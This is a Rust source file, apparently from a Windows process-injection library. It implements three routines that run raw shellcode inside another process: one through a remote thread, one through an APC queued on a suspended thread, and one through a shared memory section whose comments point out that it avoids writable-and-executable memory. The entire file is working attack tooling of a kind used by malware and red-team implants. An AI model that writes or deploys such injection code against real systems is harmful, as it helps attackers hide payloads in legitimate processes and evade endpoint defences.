//! Composed injection sequences.
//!
//! Each sequence follows the one valid ordering: open, provision, write,
//! trigger. Callers that need a different composition can build it from the
//! primitives directly; injections into the same target from multiple threads
//! must be serialized by the caller.

use windows::Win32::System::Memory::{PAGE_EXECUTE_READ, PAGE_READWRITE};

use crate::error::InjectError;
use crate::memory::{allocate_direct, write_memory, RemoteAddress};
use crate::native;
use crate::process::ProcessHandle;
use crate::section::allocate_via_section;
use crate::thread::{create_thread, queue_apc, resume_thread, ApcVariant, ThreadHandle};

/// A triggered injection: where the payload lives in the target, and the
/// thread that is (or will be) executing it. The payload region belongs to
/// the target from here on.
pub struct Injection {
    pub base: RemoteAddress,
    pub thread: ThreadHandle,
}

/// Inject raw shellcode and run it on a new remote thread.
///
/// Allocates read-write memory directly in the target, writes the payload,
/// flips the region to execute-read, then starts a thread at its base.
pub fn inject_shellcode_thread(pid: u32, shellcode: &[u8]) -> Result<Injection, InjectError> {
    if shellcode.is_empty() {
        return Err(InjectError::WriteFailed(0));
    }

    let process = ProcessHandle::open(pid, ProcessHandle::INJECT_ACCESS)?;

    let allocation = allocate_direct(&process, shellcode.len(), PAGE_READWRITE)?;
    write_memory(&process, allocation.base(), shellcode)?;
    allocation.protect(PAGE_EXECUTE_READ)?;

    let thread = create_thread(&process, allocation.base(), false)?;
    let base = allocation.release();

    log::info!(
        "injected {} bytes into process {} via remote thread",
        shellcode.len(),
        pid
    );

    Ok(Injection { base, thread })
}

/// Inject raw shellcode and run it as an APC on a fresh suspended thread.
///
/// The thread is parked on `ExitThread` so it does nothing of its own; the
/// payload address is queued before the resume, which guarantees the callback
/// fires while the thread initializes, ahead of its benign entry point.
/// `ExitThread` is resolved locally; kernel32 loads at the same base in every
/// process.
pub fn inject_shellcode_apc(
    pid: u32,
    shellcode: &[u8],
    variant: ApcVariant,
) -> Result<Injection, InjectError> {
    if shellcode.is_empty() {
        return Err(InjectError::WriteFailed(0));
    }

    let process = ProcessHandle::open(pid, ProcessHandle::INJECT_ACCESS)?;

    let allocation = allocate_direct(&process, shellcode.len(), PAGE_READWRITE)?;
    write_memory(&process, allocation.base(), shellcode)?;
    allocation.protect(PAGE_EXECUTE_READ)?;

    let exit_thread = RemoteAddress::new(native::kernel32()?.exit_thread);
    let thread = create_thread(&process, exit_thread, true)?;

    if let Err(err) = queue_apc(&thread, allocation.base(), variant) {
        // let the parked thread run straight to ExitThread instead of
        // leaving it suspended in the target forever
        let _ = resume_thread(&thread);
        return Err(err);
    }

    resume_thread(&thread)?;
    let base = allocation.release();

    log::info!(
        "injected {} bytes into process {} via {}",
        shellcode.len(),
        pid,
        variant.procedure()
    );

    Ok(Injection { base, thread })
}

/// Inject raw shellcode through a shared section and run it on a new thread.
///
/// The payload is written once, through the local view; the remote view is
/// mapped execute-read and never written across the process boundary, so the
/// target needs no VM write right and the remote region is never both
/// writable and executable.
pub fn inject_shellcode_section(pid: u32, shellcode: &[u8]) -> Result<Injection, InjectError> {
    if shellcode.is_empty() {
        return Err(InjectError::WriteFailed(0));
    }

    let process = ProcessHandle::open(pid, ProcessHandle::SECTION_ACCESS)?;

    let mapping = allocate_via_section(
        &process,
        shellcode.len(),
        PAGE_READWRITE,
        PAGE_EXECUTE_READ,
    )?;

    let mut local = mapping.local;
    local.write_bytes(shellcode)?;
    drop(local); // payload is already visible through the remote view

    let entry = mapping.remote.base();
    let thread = create_thread(&process, entry, false)?;
    let base = mapping.remote.release();

    log::info!(
        "injected {} bytes into process {} via shared section",
        shellcode.len(),
        pid
    );

    Ok(Injection { base, thread })
}
